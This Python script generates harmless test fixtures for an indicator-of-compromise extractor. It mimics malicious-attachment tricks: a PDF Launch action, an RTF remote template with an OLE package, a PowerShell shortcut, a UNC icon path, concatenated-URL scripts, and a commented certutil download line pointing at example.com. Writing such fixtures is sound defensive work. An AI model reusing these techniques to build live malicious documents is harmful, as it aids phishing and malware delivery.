#!/usr/bin/env python3
"""Write the indicator-of-compromise (IOC) extraction fixtures in Tests/Fixtures/iocs/ and their expected.json.

Each fixture is an attachment-like file that hides URLs, command lines, file names or paths in the way real
malicious mail does (PDF actions, compressed object streams, RTF OLE packages, shortcuts, string concatenation in
scripts, external OOXML relationships, nested zips). Everything is harmless:

- every script only echoes or shows the word "harmless"; a URL only ever sits in a string or a comment;
- the .lnk and .desktop commands only echo "harmless"; the PDF Launch action runs `cmd.exe /c echo harmless`;
- every host is a reserved example domain (*.example.com/.net/.org) or a documentation address (192.0.2.x).

Needs Python 3 and pylnk3 (`pip install pylnk3`); python-docx is used, when installed, only to check that the .docx
opens. Last run with pylnk3 0.4.3 and python-docx 1.2.0 on Python 3.11.

    python3 Tests/Fixtures/make_ioc_fixtures.py           # (re)write iocs/ and iocs/expected.json
    python3 Tests/Fixtures/make_ioc_fixtures.py --check   # exit 1 if a file on disk differs from what would be written

Deterministic: fixed times (2019-06-10 00:00:00 UTC; 09:00 local DOS time in the zips, as a Japanese PC writes
it, like make_fixtures.sh), TZ forced to UTC (pylnk3 converts times with time.mktime), no randomness, members in a
fixed order. With the same zlib, running it twice gives byte-identical files.
"""

import datetime
import hashlib
import io
import json
import os
import re
import struct
import sys
import time
import zipfile
import zlib
from pathlib import Path

os.environ["TZ"] = "UTC"
time.tzset()

HERE = Path(__file__).resolve().parent
OUT = HERE / "iocs"
ZIP_TIME = (2019, 6, 10, 9, 0, 0)             # local DOS time in the zips (09:00 JST = 00:00 UTC)
FIXED_DT = datetime.datetime(2019, 6, 10, 0, 0, 0)
MAX_SIZE = 16 * 1024

# Files to write, name -> bytes, and what a correct extractor finds in each, name -> {kind: [values]}.
# Kinds: "url", "command", "filename" (always present), "path" and "workdir" (only where the file has them).
# Values are listed in the order they appear in the file; tests should compare them as sets.
FILES = {}
EXPECTED = {}


def add(name, data, url=(), command=(), filename=(), path=(), workdir=()):
    assert len(data) < MAX_SIZE, (name, len(data))
    FILES[name] = data
    entry = {"url": list(url), "command": list(command), "filename": list(filename)}
    if path:
        entry["path"] = list(path)
    if workdir:
        entry["workdir"] = list(workdir)
    EXPECTED[name] = entry


def zip_bytes(members):
    """A zip written by zipfile with fixed times, MS-DOS host and ZIP_DEFLATED, members in the order given."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.create_system = 0
            info.external_attr = 0x20          # FILE_ATTRIBUTE_ARCHIVE, as Windows writes it
            archive.writestr(info, data)
    return buffer.getvalue()


def merge_expected(names):
    """The union of the expectations of several fixtures (for an archive that holds them), order kept."""
    merged = {"url": [], "command": [], "filename": [], "path": [], "workdir": []}
    for name in names:
        for kind, values in EXPECTED[name].items():
            merged[kind] += [v for v in values if v not in merged[kind]]
    return merged


# --- 1. links.pdf ----------------------------------------------------------------------------------------------
# Tests: URI actions in a plain object, in a compressed object stream (/ObjStm, FlateDecode), as a hex string and
# as a literal string with escapes; an /OpenAction Launch action (command line); a JavaScript action whose URL is
# inside JS source; an embedded file (EmbeddedFiles name tree -> Filespec with /F and a UTF-16BE /UF name,
# FlateDecode stream). The file is a hybrid-reference PDF (PDF 1.7, 7.5.8.4): a classic xref table for the plain
# objects plus /XRefStm, a small cross-reference stream that says where the compressed objects are.

PDF_URI_PLAIN = "http://pdf-uri.example.com/login"
PDF_URI_OBJSTM = "https://objstm.example.net/doc?id=7"
PDF_URI_HEX = "http://hex.example.org/a"
PDF_URI_ESCAPED = r"http://esc.example.org/p(1)\x"
PDF_URI_JS = "http://js.example.com/x"
PDF_EMBEDDED_NAME = "invoice.js"
PDF_EMBEDDED_UNICODE_NAME = "請求書.js"
PDF_EMBEDDED_DATA = b'WScript.Echo("harmless");'


def pdf_literal(text):
    """A PDF literal string: backslash, parentheses escaped."""
    return b"(" + text.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def pdf_stream(dictionary, data):
    return dictionary[:-2].rstrip() + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def make_links_pdf():
    utf16_name = b"<FEFF" + PDF_EMBEDDED_UNICODE_NAME.encode("utf-16-be").hex().upper().encode() + b">"
    content = b"BT /F1 24 Tf 72 720 Td (Quarterly report) Tj ET\n"

    # Plain (uncompressed) objects.
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R"
           b" /Names << /EmbeddedFiles 11 0 R /JavaScript 16 0 R >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 15 0 R >> >>"
           b" /Contents 4 0 R /Annots [5 0 R 6 0 R 7 0 R 8 0 R] >>",
        # The page text, a plain stream with no filter.
        4: pdf_stream(b"<< >>", content),
        # Link annotation, URI action written out in the object itself.
        5: b"<< /Type /Annot /Subtype /Link /Rect [72 680 300 700] /Border [0 0 0]"
           b" /A << /S /URI /URI " + pdf_literal(PDF_URI_PLAIN) + b" >> >>",
        # Link annotation whose action (object 14) lives in the compressed object stream.
        6: b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 670] /Border [0 0 0] /A 14 0 R >>",
        # Link annotation, URI as a hex string.
        7: b"<< /Type /Annot /Subtype /Link /Rect [72 620 300 640] /Border [0 0 0]"
           b" /A << /S /URI /URI <" + PDF_URI_HEX.encode().hex().encode() + b"> >> >>",
        # Link annotation, URI as a literal string with \( \) \\ escapes.
        8: b"<< /Type /Annot /Subtype /Link /Rect [72 590 300 610] /Border [0 0 0]"
           b" /A << /S /URI /URI (http://esc.example.org/p\\(1\\)\\\\x) >> >>",
        # /OpenAction: Launch action with a Windows command line.
        9: b"<< /S /Launch /Win << /F (cmd.exe) /P (/c echo harmless) >> >>",
        # JavaScript action (named in the document's /JavaScript name tree, object 16).
        10: b'<< /S /JavaScript /JS (app.launchURL\\("' + PDF_URI_JS.encode() + b'", true\\);) >>',
        # EmbeddedFiles name tree, file specification and the embedded file itself.
        11: b"<< /Names [" + pdf_literal(PDF_EMBEDDED_NAME) + b" 12 0 R] >>",
        12: b"<< /Type /Filespec /F " + pdf_literal(PDF_EMBEDDED_NAME) + b" /UF " + utf16_name
            + b" /EF << /F 13 0 R >> >>",
        13: pdf_stream(b"<< /Type /EmbeddedFile /Filter /FlateDecode"
                       b" /Params << /Size %d /ModDate (D:20190610000000Z) >> >>" % len(PDF_EMBEDDED_DATA),
                       zlib.compress(PDF_EMBEDDED_DATA, 9)),
    }
    # Objects stored in the object stream (object 17).
    compressed = {
        14: b"<< /S /URI /URI " + pdf_literal(PDF_URI_OBJSTM) + b" >>",
        15: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        16: b"<< /Names [(report) 10 0 R] >>",
    }
    objstm_number, xrefstm_number = 17, 18
    size = xrefstm_number + 1

    bodies, index = b"", []
    for number, body in compressed.items():
        index.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    header = b" ".join(index) + b"\n"
    plain[objstm_number] = pdf_stream(
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode >>" % (len(compressed), len(header)),
        zlib.compress(header + bodies, 9))

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"

    # Cross-reference stream for the compressed objects only: type 2, object stream number, index in it.
    offsets[xrefstm_number] = len(out)
    first_compressed = min(compressed)
    xref_data = b"".join(struct.pack(">BHB", 2, objstm_number, i) for i in range(len(compressed)))
    out += b"%d 0 obj\n" % xrefstm_number + pdf_stream(
        b"<< /Type /XRef /Size %d /Index [%d %d] /W [1 2 1] >>" % (size, first_compressed, len(compressed)),
        xref_data) + b"\nendobj\n"

    # Classic xref table: subsections for the plain objects; the compressed ones are left out of it.
    startxref = len(out)
    numbers = [0] + sorted(offsets)
    out += b"xref\n"
    run_start = 0
    for i, number in enumerate(numbers):
        if i + 1 == len(numbers) or numbers[i + 1] != number + 1:
            run = numbers[run_start:i + 1]
            out += b"%d %d\n" % (run[0], len(run))
            for n in run:
                out += b"0000000000 65535 f\r\n" if n == 0 else b"%010d 00000 n\r\n" % offsets[n]
            run_start = i + 1
    file_id = hashlib.md5(b"spearscan-ioc-fixture:links.pdf").hexdigest().upper().encode()
    out += (b"trailer\n<< /Size %d /Root 1 0 R /XRefStm %d /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n"
            % (size, offsets[xrefstm_number], file_id, file_id, startxref))
    data = bytes(out)
    check_pdf(data, compressed)
    add("links.pdf", data,
        url=[PDF_URI_PLAIN, PDF_URI_HEX, PDF_URI_ESCAPED, PDF_URI_JS, PDF_URI_OBJSTM],
        command=["cmd.exe /c echo harmless"],
        filename=[PDF_EMBEDDED_NAME, PDF_EMBEDDED_UNICODE_NAME])


def check_pdf(data, compressed):
    """Check the xref table, the xref stream, the object stream and the embedded file by hand."""
    startxref = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    assert data[startxref:startxref + 5] == b"xref\n"
    table = data[startxref + 5:data.index(b"trailer", startxref)]
    lines, i = table.split(b"\n"), 0
    offsets = {}
    while i < len(lines) and lines[i].strip():
        first, count = map(int, lines[i].split())
        for k in range(count):
            entry = lines[i + 1 + k] + b"\n"
            assert len(entry) == 20, entry
            if entry[17:18] == b"n":
                offsets[first + k] = int(entry[:10])
        i += 1 + count
    for number, offset in offsets.items():
        assert data[offset:].startswith(b"%d 0 obj\n" % number), number

    def stream_of(number):
        start = offsets[number]
        head = data[start:data.index(b"stream\n", start)]
        length = int(re.search(rb"/Length (\d+)", head).group(1))
        body_start = start + len(head) + len(b"stream\n")
        assert data[body_start + length:].startswith(b"\nendstream\nendobj\n"), number
        return head, data[body_start:body_start + length]

    trailer = data[data.index(b"trailer", startxref):]
    xrefstm = int(re.search(rb"/XRefStm (\d+)", trailer).group(1))
    xref_number = next(n for n, o in offsets.items() if o == xrefstm)
    head, entries = stream_of(xref_number)
    first, count = map(int, re.search(rb"/Index \[(\d+) (\d+)\]", head).groups())
    assert count == len(compressed)
    for k in range(count):
        kind, stm, idx = struct.unpack(">BHB", entries[4 * k:4 * k + 4])
        assert kind == 2
        head, raw = stream_of(stm)
        assert b"/Type /ObjStm" in head
        objstm = zlib.decompress(raw)
        first_offset = int(re.search(rb"/First (\d+)", head).group(1))
        pairs = list(map(int, objstm[:first_offset].split()))
        number, rel = pairs[2 * idx], pairs[2 * idx + 1]
        assert number == first + k
        assert objstm[first_offset + rel:].startswith(compressed[number])
    head, raw = stream_of(13)
    assert zlib.decompress(raw) == PDF_EMBEDDED_DATA


# --- 2. links.rtf ----------------------------------------------------------------------------------------------
# Tests: a HYPERLINK field, a remote \*\template, and an embedded OLE1.0 "Package" object in \*\objdata (hex with
# line breaks every 64 characters): the package's label (file name), source and temp paths, and a URL carried as
# a UTF-16LE string after the packaged data, as a URL moniker stores it.

RTF_LINK = "http://rtf-link.example.com/path"
RTF_TEMPLATE = "http://tmpl.example.com/t.dotm"
RTF_MONIKER = "http://moniker.example.net/x.hta"
RTF_LABEL = "report.vbs"
RTF_SOURCE = r"C:\Users\Public\report.vbs"
RTF_TEMP = r"C:\Users\Public\AppData\Local\Temp\report.vbs"
RTF_DATA = b'MsgBox "harmless"'
URL_MONIKER_CLSID = bytes.fromhex("E0C9EA79F9BACE118C8200AA004BA90B")   # {79EAC9E0-BAF9-11CE-8C82-00AA004BA90B}


def ole_package_native_data():
    """OLE Packager native data for an embedded file, then a URL moniker (CLSID, byte length, UTF-16LE + NUL)."""
    out = struct.pack("<H", 2)
    out += RTF_LABEL.encode("ascii") + b"\0"
    out += RTF_SOURCE.encode("ascii") + b"\0"
    out += struct.pack("<HH", 0, 3)                                   # reserved, type 3 = embedded file
    temp = RTF_TEMP.encode("ascii") + b"\0"
    out += struct.pack("<I", len(temp)) + temp
    out += struct.pack("<I", len(RTF_DATA)) + RTF_DATA
    moniker_url = (RTF_MONIKER + "\0").encode("utf-16-le")
    out += URL_MONIKER_CLSID + struct.pack("<I", len(moniker_url)) + moniker_url
    return out


def ole1_embedded_object(class_name, native):
    """MS-OLEDS 2.2.4 EmbeddedObject: header, native data, and an empty presentation object."""
    name = class_name.encode("ascii") + b"\0"
    out = struct.pack("<II", 0x00000501, 2)                           # OLEVersion, FormatID 2 = embedded
    out += struct.pack("<I", len(name)) + name                        # ClassName
    out += struct.pack("<I", 0) + struct.pack("<I", 0)                # TopicName, ItemName: empty
    out += struct.pack("<I", len(native)) + native
    out += struct.pack("<II", 0x00000501, 0)                          # presentation: none
    return out


def make_links_rtf():
    objdata = ole1_embedded_object("Package", ole_package_native_data()).hex()
    hex_lines = "\r\n".join(objdata[i:i + 64] for i in range(0, len(objdata), 64))
    text = (
        "{\\rtf1\\ansi\\ansicpg1252\\deff0\r\n"
        "{\\fonttbl{\\f0\\fswiss Arial;}}\r\n"
        "{\\*\\template " + RTF_TEMPLATE + "}\r\n"
        "\\pard\\f0\\fs22 Quarterly report\\par\r\n"
        "{\\field{\\*\\fldinst HYPERLINK \"" + RTF_LINK + "\"}{\\fldrslt click here}}\\par\r\n"
        "{\\object\\objemb{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata\r\n"
        + hex_lines + "\r\n}}\\par\r\n"
        "}\r\n"
    )
    add("links.rtf", text.encode("ascii"),
        url=[RTF_TEMPLATE, RTF_LINK, RTF_MONIKER],
        filename=[RTF_LABEL],
        path=[RTF_SOURCE, RTF_TEMP])


# --- 3. run.lnk ------------------------------------------------------------------------------------------------
# Tests: a shell link's target, arguments (with a URL inside a quoted string), working directory and icon.

LNK_TARGET = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
LNK_ARGUMENTS = "-NoProfile -Command \"Write-Output 'harmless http://lnk.example.com/payload.ps1'\""
LNK_WORKDIR = r"C:\Users\Public"
LNK_ICON = r"C:\Windows\System32\shell32.dll"


def make_run_lnk():
    import pylnk3

    lnk = pylnk3.for_file(LNK_TARGET, arguments=LNK_ARGUMENTS, work_dir=LNK_WORKDIR, icon_file=LNK_ICON)
    # pylnk3 stamps "now" into the header and into each path segment; pin them so the bytes do not change.
    lnk.creation_time = lnk.access_time = lnk.modification_time = FIXED_DT
    segments = [item for item in lnk.shell_item_id_list.items if isinstance(item, pylnk3.PathSegmentEntry)]
    for item in segments:
        item.created = item.modified = item.accessed = FIXED_DT
        item.file_size = 0
        item.type = pylnk3.TYPE_FOLDER        # pylnk3 asks os.path.isdir(), which means nothing here
    segments[-1].type = pylnk3.TYPE_FILE      # powershell.exe
    buffer = io.BytesIO()
    lnk.write(buffer)
    data = buffer.getvalue()

    parsed = pylnk3.parse(io.BytesIO(data))
    assert parsed.path == LNK_TARGET, parsed.path
    assert parsed.arguments == LNK_ARGUMENTS, parsed.arguments
    assert parsed.work_dir == LNK_WORKDIR, parsed.work_dir
    assert parsed.icon == LNK_ICON, parsed.icon
    add("run.lnk", data,
        url=["http://lnk.example.com/payload.ps1"],
        command=[LNK_TARGET + " " + LNK_ARGUMENTS],
        path=[LNK_ICON],
        workdir=[LNK_WORKDIR])


# --- 4. shortcut.url -------------------------------------------------------------------------------------------
# Tests: an Internet shortcut's URL= and an IconFile= on a UNC path (which makes Windows reach out over SMB).

def make_shortcut_url():
    data = (b"[InternetShortcut]\r\nURL=http://url-file.example.com/open\r\n"
            b"IconFile=\\\\192.0.2.44\\share\\icon.ico\r\nIconIndex=0\r\n")
    add("shortcut.url", data,
        url=["http://url-file.example.com/open"],
        path=[r"\\192.0.2.44\share\icon.ico"])


# --- 5. launcher.desktop, link.desktop -------------------------------------------------------------------------
# Tests: a freedesktop.org launcher's Exec= command line (with a URL inside), and a Type=Link entry's URL=.

def make_desktop_files():
    command = 'sh -c "echo harmless http://desktop.example.com/x"'
    add("launcher.desktop",
        b"[Desktop Entry]\nType=Application\nName=Report\nExec=" + command.encode() + b"\n",
        url=["http://desktop.example.com/x"],
        command=[command])
    add("link.desktop",
        b"[Desktop Entry]\nType=Link\nName=Document\nURL=https://desktop-link.example.org/doc\n",
        url=["https://desktop-link.example.org/doc"])


# --- 6. concat.js, concat.vbs, concat.ps1, fetch.bat -----------------------------------------------------------
# Tests: URLs split into string pieces joined with + or & (only a correct join finds the whole URL), and a URL in a
# batch-file comment. The scripts only echo "harmless"; the joined strings are never used.

CONCAT_JS = b'var u = "ht" + "tp://" + "js-concat.example.com" + "/p.txt";\nWScript.Echo("harmless");\n'


def make_scripts():
    add("concat.js", CONCAT_JS, url=["http://js-concat.example.com/p.txt"])
    add("concat.vbs", b'u = "http://vbs" & ".example.org/" & "x"\r\nWScript.Echo "harmless"\r\n',
        url=["http://vbs.example.org/x"])
    add("concat.ps1", b"$u = 'https://ps' + '.example.net/a'\r\nWrite-Output \"harmless\"\r\n",
        url=["https://ps.example.net/a"])
    add("fetch.bat", b"@echo off\r\necho harmless\r\nrem certutil -urlcache -f http://bat.example.com/x.exe x.exe\r\n",
        url=["http://bat.example.com/x.exe"])


# --- 7. external-link.docx -------------------------------------------------------------------------------------
# Tests: external relationships in word/_rels/document.xml.rels (a hyperlink and an oleObject on a file: URL, both
# TargetMode="External"), next to an internal styles relationship that must not be listed. The OOXML namespace
# URIs (schemas.openxmlformats.org) are names, not links, and must not be listed either.

DOCX_LINK = "https://docx-link.example.com/report"
DOCX_OLE = "file://192.0.2.55/share/data.xlsx"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def make_external_link_docx():
    xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    content_types = xml + (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        '<Override PartName="/word/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
        '</Types>')
    package_rels = xml + (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'
        '</Relationships>')
    document = xml + (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        f' xmlns:r="{REL}">'
        '<w:body>'
        '<w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId2"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr>'
        '<w:t>Open the report</w:t></w:r></w:hyperlink></w:p>'
        '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>'
        '</w:body></w:document>')
    styles = xml + (
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>'
        '<w:style w:type="character" w:styleId="Hyperlink"><w:name w:val="Hyperlink"/>'
        '<w:rPr><w:color w:val="0563C1"/><w:u w:val="single"/></w:rPr></w:style>'
        '</w:styles>')
    document_rels = xml + (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId2" Type="{REL}/hyperlink" Target="{DOCX_LINK}" TargetMode="External"/>'
        f'<Relationship Id="rId3" Type="{REL}/oleObject" Target="{DOCX_OLE}" TargetMode="External"/>'
        '</Relationships>')
    data = zip_bytes([
        ("[Content_Types].xml", content_types.encode()),
        ("_rels/.rels", package_rels.encode()),
        ("word/document.xml", document.encode()),
        ("word/_rels/document.xml.rels", document_rels.encode()),
        ("word/styles.xml", styles.encode()),
    ])
    try:
        import docx
    except ImportError:
        docx = None
    if docx is not None:
        opened = docx.Document(io.BytesIO(data))
        assert [p.text for p in opened.paragraphs] == ["Quarterly report", "Open the report"]
        external = sorted(r.target_ref for r in opened.part.rels.values() if r.is_external)
        assert external == sorted([DOCX_LINK, DOCX_OLE]), external
    add("external-link.docx", data, url=[DOCX_LINK, DOCX_OLE])


# --- 8. nested-iocs.zip ----------------------------------------------------------------------------------------
# Tests: indicators found inside a zip inside a zip, and next to it at the top level. Same bytes as the files above.

def make_nested_zip():
    inner = zip_bytes([("run.lnk", FILES["run.lnk"]), ("concat.js", FILES["concat.js"])])
    outer = zip_bytes([("inner.zip", inner), ("shortcut.url", FILES["shortcut.url"])])
    merged = merge_expected(["run.lnk", "concat.js", "shortcut.url"])
    add("nested-iocs.zip", outer, **merged)


def build():
    make_links_pdf()
    make_links_rtf()
    make_run_lnk()
    make_shortcut_url()
    make_desktop_files()
    make_scripts()
    make_external_link_docx()
    make_nested_zip()
    everything = dict(FILES)
    everything["expected.json"] = (json.dumps(EXPECTED, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
    return everything


def main(argv):
    check = "--check" in argv[1:]
    unknown = [a for a in argv[1:] if a != "--check"]
    if unknown:
        print(f"make_ioc_fixtures.py: unknown argument: {unknown[0]}", file=sys.stderr)
        return 2
    everything = build()
    if check:
        differ = [n for n, d in everything.items() if not (OUT / n).is_file() or (OUT / n).read_bytes() != d]
        for name in differ:
            print(f"differs: iocs/{name}")
        return 1 if differ else 0
    OUT.mkdir(exist_ok=True)
    for name, data in everything.items():
        (OUT / name).write_bytes(data)
        print(f"{len(data):6d}  iocs/{name}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
